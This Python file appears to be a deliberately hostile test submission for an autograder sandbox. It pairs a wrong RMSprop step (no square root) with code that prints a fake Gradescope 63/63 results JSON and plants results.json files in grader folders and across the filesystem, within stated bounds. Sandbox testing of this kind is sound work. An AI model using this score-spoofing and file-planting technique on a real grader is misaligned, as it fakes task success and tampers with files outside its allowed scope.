"""RMSprop.step is wrong (no square root), and its first call in a process prints a fake
Gradescope results JSON (63 / 63) on stdout and tries to plant results.json files: in
"..", "~", "/", /autograder/results (where Gradescope reads them), next to its own file,
and in every folder a walk from "/" reaches. The score must be the wrong answer's (0),
and nothing outside the sandbox's private /tmp may change.

Bounded on purpose, so that a failure of the sandbox does no lasting harm on a shared
machine: besides the few fixed places above, it writes only into folders that a test
marked as fair game (they hold a file DLGRADE_HOSTILE_TEST_VICTIM); any other writable
folder outside its own /tmp it reports as a SANDBOX ESCAPE in its exception instead
of writing there. The walk stops after 1 s or 40 000 folders."""
MODULE = "optimizers"
EXERCISE = "week1.rmsprop"
HINT = "got"
DESTRUCTIVE = "writes results.json files into every folder it can reach"
import collections as _collections
import json as _json
import os as _os
import sys as _sys
import time as _time

_FAKE = {"score": 63.0, "execution_time": 1, "output": "All tests passed!", "visibility": "visible",
         "tests": [{"name": "everything", "score": 63.0, "max_score": 63.0, "status": "passed"}]}
_SENTINEL = "DLGRADE_HOSTILE_TEST_VICTIM"
_SKIP = {"proc", "sys", "dev"}
# Where submissions and graders usually live first, then everything else.
_ROOTS = ["/tmp", "/work", "/home", "/root", "/srv", "/autograder", "/mnt", "/opt", "/var", "/"]
_sprayed = False


def _private(path):
    """The sandbox's own scratch folder (cwd, HOME, TMPDIR): writing there harms no one."""
    real = _os.path.realpath(path)
    for mine in {_os.getcwd(), _os.environ.get("HOME", ""), _os.environ.get("TMPDIR", "")} - {""}:
        mine = _os.path.realpath(mine)
        if real == mine or real.startswith(mine.rstrip("/") + "/"):
            return True
    return False


def _plant(folder):
    try:
        with open(_os.path.join(folder, "results.json"), "w") as f:
            _json.dump(_FAKE, f)
        return True
    except OSError:
        return False


def _spray():
    print(_json.dumps(_FAKE), flush=True)
    escaped = []
    here = _os.path.dirname(_os.path.abspath(__file__))
    fixed = ["..", "~", "/", "/autograder/results", "/autograder", here, _os.path.dirname(here), "/sandbox"]
    for folder in fixed:
        folder = _os.path.expanduser(folder)
        if folder.startswith("/autograder"):
            try:
                _os.makedirs(folder, exist_ok=True)
            except OSError:
                pass
        if _plant(folder) and not _private(folder):
            escaped.append(_os.path.realpath(folder))
    seen, queue = set(), _collections.deque(_ROOTS)
    deadline = _time.monotonic() + 1.0
    while queue and len(seen) < 40_000 and _time.monotonic() < deadline:
        d = queue.popleft()
        if d in seen:
            continue
        seen.add(d)
        try:
            entries = list(_os.scandir(d))
        except OSError:
            continue
        names = {e.name for e in entries}
        if not _private(d) and _os.access(d, _os.W_OK):
            if _SENTINEL in names:
                _plant(d)
            escaped.append(d)
        for e in entries:
            try:
                if e.is_dir(follow_symlinks=False) and not (d == "/" and e.name in _SKIP):
                    queue.append(e.path)
            except OSError:
                pass
    if escaped:
        raise RuntimeError("SANDBOX ESCAPE: could write results.json to " + ", ".join(sorted(set(escaped))[:10]))


class RMSprop(Optimizer):
    def __init__(self, params, lr, alpha=0.99, eps=1e-8):
        super().__init__(params)
        self.lr, self.alpha, self.eps = lr, alpha, eps
        self.square_avg = [np.zeros_like(p) for p in self.params]

    def step(self, grads):
        global _sprayed
        if not _sprayed:
            _sprayed = True
            _spray()
        for p, g, v in zip(self.params, grads, self.square_avg):
            v *= self.alpha
            v += (1 - self.alpha) * g * g
            p -= self.lr * g / (v + self.eps)  # the mistake: v, not sqrt(v)
